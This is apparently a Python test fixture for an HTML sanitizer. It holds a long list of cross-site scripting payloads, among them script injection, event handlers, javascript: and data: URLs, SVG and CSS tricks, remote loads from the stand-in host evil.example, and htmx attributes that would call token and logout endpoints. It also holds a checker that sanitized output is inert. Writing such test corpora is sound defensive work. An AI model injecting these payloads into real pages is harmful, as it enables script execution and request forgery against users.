"""A corpus of hostile HTML for the sanitizer (SPEC §8.2), and a structural check that a
sanitized copy is inert. Shared by tests/unit/test_sanitize_results.py and the browser
test that renders every payload (tests/e2e/test_results_browser.py).

"Inert" is checked on the parsed output, not by searching for strings: only allowlisted
elements and attributes, no handler or htmx attribute, no URL that runs or loads, and no
`<style>` that imports, fetches, runs or fixes itself to the screen.
"""
from __future__ import annotations

import re

from services.core import sanitize

EVIL = "evil.example"

HOSTILE = [
    # scripts, in every casing and shape
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script src=//evil.example/x.js></script>',
    '<script>alert(1)',
    '<scr<script>ipt>alert(1)</script>',
    '<<script>script>alert(1)<</script>/script>',
    '<script type="text/plain">x</script><script>alert(1)</script>',
    '<div><p><b><i><script>alert(1)</script></i></b></p></div>',
    '<img """><script>alert(1)</script>">',
    # event handlers
    '<img src=x onerror=alert(1)>',
    '<IMG SRC=x ONERROR=alert(1)>',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)">x</div>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<a href="#" onfocus="alert(1)" autofocus>x</a>',
    '<p/onclick=alert(1)>x</p>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)></select>',
    '<marquee onstart=alert(1)>x</marquee>',
    # javascript:, vbscript:, data: and relative URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<a href="/api-tokens">x</a>',
    # SVG
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="https://evil.example/x.js"/></svg>',
    '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
    '<svg><circle r="5" onclick="alert(1)"/></svg>',
    '<svg><g><g><path d="M0 0" onmouseover="alert(1)"/></g></g></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    '<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>',
    '<svg><use href="https://evil.example/sprite.svg#x"/></svg>',
    '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><animateTransform attributeName="transform"/><animateMotion path="M0 0"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
    '<svg><rect style="fill:url(https://evil.example/x)"/></svg>',
    '<svg><style>@import url(https://evil.example/x.css);</style></svg>',
    '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
    '<svg><handler type="text/javascript">alert(1)</handler></svg>',
    '<svg><title><script>alert(1)</script></title></svg>',
    # CSS in attributes
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<div style="position:fixed;inset:0;background:red">x</div>',
    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    # CSS in <style>
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>p{background:url(https://evil.example/x)}</style>',
    "<style>p{background:url('//evil.example/x')}</style>",
    '<style>p{width:expression(alert(1))}</style>',
    '<style>p{width:expr/**/ession(alert(1))}</style>',
    '<style>p{background:u\\72l(https://evil.example/x)}</style>',
    '<style>p{position:fixed;top:0;left:0;width:100%;height:100%}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
    '<style>p{background-image:image-set("https://evil.example/x.png" 1x)}</style>',
    '<style>p{-moz-binding:url(https://evil.example/x.xml#b)}</style>',
    '<style>p{content:"\\3c/style><script>alert(1)</script>"}</style>',
    '<style>@media all{p{background:url(https://evil.example/x)}}</style>',
    '<style>@namespace url(https://evil.example);</style>',
    '<style>p{cursor:url(https://evil.example/c.cur),auto}</style>',
    '<style>p{list-style:url(https://evil.example/b.png)}</style>',
    # frames, documents and loads
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="https://evil.example"></frameset>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<form action="https://evil.example"><input name=x><button>go</button></form>',
    '<button formaction="https://evil.example">x</button>',
    '<portal src="https://evil.example"></portal>',
    '<template><script>alert(1)</script></template>',
    # mutation-XSS shapes, comments, CDATA, raw-text elements
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<svg><![CDATA[<script>alert(1)</script>]]></svg>',
    '<xmp><script>alert(1)</script></xmp>',
    '<textarea><script>alert(1)</script></textarea>',
    '<title><script>alert(1)</script></title>',
    '<a href="https://example.org/" title="&quot;><script>alert(1)</script>">x</a>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    # htmx: a result must not make the dashboard send requests
    '<div hx-get="/api-tokens" hx-trigger="load" hx-target="body">x</div>',
    '<div data-hx-post="/logout" data-hx-trigger="load">x</div>',
    '<form hx-post="/board/move/1"><button>x</button></form>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div HX-GET="/api-tokens" hx-trigger="load">x</div>',
    '<a hx-boost="true" href="https://example.org">x</a>',
]

_RUNS = ("javascript:", "vbscript:", "livescript:", "expression(")
_CSS_NEVER = ("@import", "expression", "behavior", "-moz-binding", "@font-face", "image-set", "@namespace")


def _squeezed(value: str) -> str:
    return re.sub(r"[\s\x00-\x20\\]+|/\*.*?\*/", "", value or "").lower()


def inert_problems(html: str, policy: sanitize.Policy = sanitize.RESULT) -> list[str]:
    """Everything in sanitized HTML that could run, load or escape; empty when inert."""
    problems = []
    root = sanitize.parse_fragment(html)
    for element in root.iter():
        if not isinstance(element.tag, str) or element is root:
            continue
        namespace = element.tag[1:].split("}")[0] if element.tag.startswith("{") else None
        name = sanitize.local_name(element.tag)
        if namespace == sanitize.SVG_NS:
            if name not in policy.svg_tags:
                problems.append(f"svg element <{name}>")
            allowed = policy.svg_attributes
        elif namespace is None:
            if name not in policy.tags:
                problems.append(f"element <{name}>")
            allowed = set(policy.attributes.get(name, [])) | set(policy.attributes["*"])
        else:
            problems.append(f"foreign element {element.tag}")
            continue
        for key, value in element.attrib.items():
            lowered, squeezed = key.lower(), _squeezed(value)
            if key.startswith("{") or lowered.startswith(("on", "hx-", "data-hx-")) or lowered == "style":
                problems.append(f"attribute {key} on <{name}>")
            elif key not in allowed:
                problems.append(f"attribute {key} not allowlisted on <{name}>")
            if any(word in squeezed for word in _RUNS):
                problems.append(f"{key}={value!r} runs code")
            if key == "href" and not squeezed.startswith(("http:", "https:", "mailto:", "#")):
                problems.append(f"href={value!r}")
            if key == "src" and not (name == "img" and squeezed.startswith(sanitize.IMAGE_DATA_PREFIXES)):
                problems.append(f"src={value!r} loads")
            if "url(" in squeezed and not all(ref.startswith("#") for ref in re.findall(r"url\(['\"]?([^)'\"]*)", squeezed)):
                problems.append(f"{key}={value!r} references outside the document")
            if EVIL in squeezed and not (name == "a" and key == "href"):
                problems.append(f"{key}={value!r} names a remote host")
        if name == "style":
            css = _squeezed("".join(element.itertext()))
            if any(word in css for word in _CSS_NEVER) or "position:fixed" in css or EVIL in css \
                    or "</" in css or "<script" in css:
                problems.append(f"style {css[:80]!r}")
            for match in re.finditer(r"url\(['\"]?", css):
                if not css[match.end():].startswith(("#",) + sanitize.IMAGE_DATA_PREFIXES):
                    problems.append(f"style url {css[match.start():match.start() + 60]!r}")
    return problems
